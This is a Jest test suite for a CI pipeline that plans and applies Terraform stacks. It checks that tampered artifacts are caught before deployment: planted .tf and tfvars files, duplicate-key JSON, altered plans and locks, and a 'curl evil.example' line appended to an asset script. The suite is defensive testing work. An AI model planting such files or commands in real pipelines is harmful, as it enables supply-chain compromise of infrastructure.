import { appendFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describeWithGit } from '../../test/support/with-git';
import { describeWithTerraform } from '../referees/terraform';
import { infrastructure, merge, TWO } from './fixture/push';
import { Team } from './fixture/team';
import type { TeamStacks } from './fixture/team';

// Every push is a dozen jobs, each with real git and Terraform.
jest.setTimeout(180_000);
const STACK = 'stacks/shop-staging';
const JSON_FILE = `${STACK}/cdk.tf.json`;
let team: Team;

beforeEach(async () => {
  team = new Team();
  await team.open();
});
afterEach(async () => team.close());

function log(): string {
  return team.world.log.join('\n');
}

/** Does something to an artifact once it is there, as a package in the job that makes it can. */
function onUpload(name: string, change: (folder: string) => void): void {
  team.world.uploaded = (each, folder) => (each === name ? change(folder) : undefined);
}

function edit(file: string, from: string, to: string): void {
  const text = readFileSync(file, 'utf8');
  expect(text).toContain(from);
  writeFileSync(file, text.replace(from, to));
}

describeWithGit('of what a synth uploads', () => {
  const stacks: TeamStacks = { 'shop-staging': { value: 'one', asset: 'echo hello\n' } };

  test('only the JSON of the stacks, their assets and the two records are kept, and what else was written is left behind', async () => {
    await team.commit(stacks);
    const program = join(team.root, 'repository/synth.mjs');
    const late = ['notes.md', 'assets/Script/OLD/run.sh'].map((name) => `write('${STACK}/${name}', 'late');`);
    writeFileSync(program, [readFileSync(program, 'utf8'), ...late].join('\n'));
    team.commitDocs('How to be on call');
    await team.push(merge);
    const folder = team.world.artifacts.get('golden-path-stacks')!;
    const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => /\.[a-z]+$/.test(name));
    expect(files.sort()).toEqual(['golden-path.json', 'golden-path.lock.json', `${STACK}/assets/Script/0A1B2C/run.sh`, JSON_FILE]);
  });

  test.each<[what: string, change: (folder: string) => void, message: string]>([
    ...['evil.tf', 'evil.tf.json', 'cdk_override.tf.json', 'evil.auto.tfvars', 'terraform.tfvars', '.terraformrc', 'assets/Other/0A/run.sh'].map(
      (name): [string, (folder: string) => void, string] => [
        `a file ${name}`,
        (folder) => writeDeep(join(folder, STACK, name)),
        `${STACK}/${name} is neither a cdk.tf.json nor an asset that one names`,
      ],
    ),
    [
      'another configuration',
      (folder) => edit(join(folder, JSON_FILE), '"one"', '"two"'),
      'shop-staging does not match its hash in golden-path.lock.json',
    ],
    [
      'a key that is there twice, of which only Terraform reads the first',
      (folder) => edit(join(folder, JSON_FILE), '{\n', '{\n  "resource": { "terraform_data": { "evil": {} } },\n'),
      'shop-staging has a cdk.tf.json that no synth writes',
    ],
    [
      'another asset',
      (folder) => appendFileSync(join(folder, STACK, 'assets/Script/0A1B2C/run.sh'), 'curl evil.example\n'),
      'shop-staging does not match its hash in golden-path.lock.json',
    ],
    [
      'an exception that nobody agreed to',
      (folder) => edit(join(folder, 'golden-path.json'), '"exceptions": []', '"exceptions": [{ "construct": "a", "what": "b", "reason": "c" }]'),
      'shop-staging: its exceptions in golden-path.json is not that of golden-path.lock.json',
    ],
    [
      'another account',
      (folder) => edit(join(folder, 'golden-path.json'), '"111111111111"', '"1:role/x"'),
      'shop-staging is no stack of the committed lock',
    ],
    ['another lock', (folder) => appendFileSync(join(folder, 'golden-path.lock.json'), '\n'), 'golden-path.lock.json is not the committed one'],
  ])('%s is found out before any job may log in', async (_, change, message) => {
    await team.commit(stacks);
    onUpload('golden-path-stacks', change);
    const { jobs } = await team.push(merge);
    expect(log()).toContain(message);
    expect([jobs['apply/stacks/stacks'], jobs['apply/first'], team.world.roles]).toEqual(['failure', 'skipped', []]);
  });
});

describeWithGit('what an apply takes', () => {
  test.each<[what: string, artifact: string, change: (folder: string) => void, message: string]>([
    ['a file beside the JSON', 'golden-path-stacks', (folder) => writeDeep(join(folder, STACK, 'evil.tf')), 'contains unlisted files that Terraform would read'],
    ['another configuration', 'golden-path-stacks', (folder) => appendFileSync(join(folder, JSON_FILE), '\n'), 'cdk.tf.json: FAILED'],
    ['another plan', 'golden-path-apply-shop-staging', (folder) => appendFileSync(join(folder, 'plan.tfplan'), 'x'), 'plan.tfplan: FAILED'],
    ['other providers', 'golden-path-apply-shop-staging', (folder) => appendFileSync(join(folder, '.terraform.lock.hcl'), '#'), 'hcl: FAILED'],
    ['a file beside the plan', 'golden-path-apply-shop-staging', (folder) => writeDeep(join(folder, 'evil.tf')), 'contains unlisted files that Terraform would read'],
  ])('is not %s, even where that came after everything was verified', async (_, artifact, change, message) => {
    await team.commit({ 'shop-staging': { value: 'one' } });
    team.world.approve = () => change(team.world.artifacts.get(artifact)!);
    const { result } = await team.push(merge);
    expect([result, team.state.valueOf('shop-staging')]).toEqual(['failure', undefined]);
    expect(log()).toContain(message);
    expect(team.world.roles).toHaveLength(1);
  });

  test('does not depend on what the runner has in its environment', async () => {
    team.world.machine = {
      TF_CLI_ARGS: '-nonsense',
      TF_CLI_ARGS_plan: '-destroy',
      TF_CLI_CONFIG_FILE: '/nowhere/terraform.rc',
      TF_DATA_DIR: '/proc/nowhere',
      TF_WORKSPACE: 'other',
    };
    await team.commit({ 'shop-staging': { value: 'one' } });
    const { result } = await team.push(merge);
    expect([result, team.state.valueOf('shop-staging')]).toEqual(['success', 'one']);
  });
}, describeWithTerraform);

describeWithGit('a plan that breaks a guarantee', () => {
  const unsafe: TeamStacks = { ...TWO, 'shop-staging': { value: 'unsafe' } };

  test('is not applied, nobody is asked to approve it, and other stacks are', async () => {
    const asked: string[] = [];
    team.world.approve = (environment) => void asked.push(environment);
    await team.commit(unsafe);
    const { jobs } = await team.push(merge);
    expect(jobs).toMatchObject({
      'apply/first (1 of 1)/stack (shop-staging)/check': 'failure',
      'apply/first (1 of 1)/stack (shop-staging)/apply': 'skipped',
      'apply/first (1 of 1)/stack (tax-staging)/apply': 'success',
    });
    expect([asked, team.state.valueOf('shop-staging')]).toEqual([['staging'], undefined]);
    expect(log()).toContain("check-plan: terraform_data.this: input: got 'unsafe'");
  });

  test('is not checked by another text than that of the plan', async () => {
    await team.commit(unsafe);
    onUpload('golden-path-check-shop-staging', (folder) => edit(join(folder, 'shop-staging.json'), '"unsafe"', '"safe"'));
    expect((await team.push(merge)).jobs).toMatchObject({ 'apply/first (1 of 1)/stack (shop-staging)/check': 'failure' });
    expect(log()).toContain('shop-staging.json: FAILED');
  });

  test('fails a pull request, whose comment says so', async () => {
    await team.commit(TWO);
    await team.propose(unsafe);
    expect((await team.pullRequest(infrastructure)).jobs).toMatchObject({ 'plan/check': 'failure', 'plan/comment': 'failure' });
    expect(team.gitHub.comments.map(({ body }) => body)).toEqual([
      expect.stringMatching(/^\*\*A plan breaks a guarantee and cannot be applied:\*\* https:[^]*shop-staging/),
    ]);
  });

  test('may be one with a value that is sensitive: in a pull request it counts as not known, and is left out', async () => {
    await team.commit(TWO);
    await team.propose({ ...TWO, 'shop-staging': { value: 's3cr3t', sensitive: true } });
    await team.pullRequest(infrastructure);
    expect(log()).toContain('check-plan: terraform_data.this: input: not known');
    const text = readFileSync(join(team.world.artifacts.get('golden-path-check-shop-staging')!, 'shop-staging.json'), 'utf8');
    const { resource_changes: [{ change }], planned_values: planned } = JSON.parse(text) as {
      resource_changes: { change: { after: object; after_unknown: object } }[];
      planned_values: { root_module: { resources: { values: object }[] } };
    };
    expect([Object.keys(change.after), change.after_unknown]).toEqual([['triggers_replace'], expect.objectContaining({ input: true, id: true })]);
    expect(planned.root_module.resources[0].values).toEqual({ triggers_replace: 'shop-staging' });
    // In the plan's configuration it stands as in the code, which whoever may read the repository has anyway.
    expect(JSON.stringify([change, planned.root_module])).not.toContain('s3cr3t');
  });
}, describeWithTerraform);

function writeDeep(file: string): void {
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, '# planted\n');
}
